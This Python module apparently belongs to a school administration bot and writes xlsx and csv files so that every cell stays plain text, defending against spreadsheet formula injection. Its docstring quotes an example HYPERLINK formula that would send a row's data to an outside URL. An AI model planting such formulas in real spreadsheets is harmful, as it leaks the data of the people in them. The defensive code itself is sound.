"""Spreadsheets the bot writes are inert: every cell is text, never a formula.

A 系部 cell holding ``=HYPERLINK("http://…?d="&B2,"x")`` must reach 教务处 as
those characters, not as a live link that leaks the row. OWASP's advice for
CSV injection: a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return gets a single quote in front. :func:`inert` is the one place
that does it; every writer (xlsx here, csv with :func:`inert_row`) uses it.
"""
from __future__ import annotations

from pathlib import Path
from typing import Iterable, Sequence

from openpyxl import Workbook
from openpyxl.cell.cell import Cell
from openpyxl.worksheet.worksheet import Worksheet

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def inert(value: object) -> str:
    """The cell as text that no spreadsheet program evaluates."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(TRIGGERS) else text


def inert_row(values: Iterable[object]) -> list[str]:
    """A row for ``csv.writer`` (or any other writer)."""
    return [inert(v) for v in values]


def append_text_row(ws: Worksheet, values: Iterable[object]) -> None:
    """Append a row to an openpyxl sheet, each cell a string cell (type ``s``), never a formula."""
    cells = []
    for text in inert_row(values):
        cell = Cell(ws, value=text)
        cell.data_type = "s"
        cells.append(cell)
    ws.append(cells)


def write_text_sheets(path: Path, sheets: Sequence[tuple[str, list, list]]) -> Path:
    """An xlsx of ``(title, header, rows)`` sheets, every cell inert text. Blocking: run it off the loop."""
    wb = Workbook()
    for i, (title, header, rows) in enumerate(sheets):
        ws = wb.active if i == 0 else wb.create_sheet()
        ws.title = title
        append_text_row(ws, header)
        for row in rows:
            append_text_row(ws, row)
    path.parent.mkdir(parents=True, exist_ok=True)
    wb.save(path)
    return path
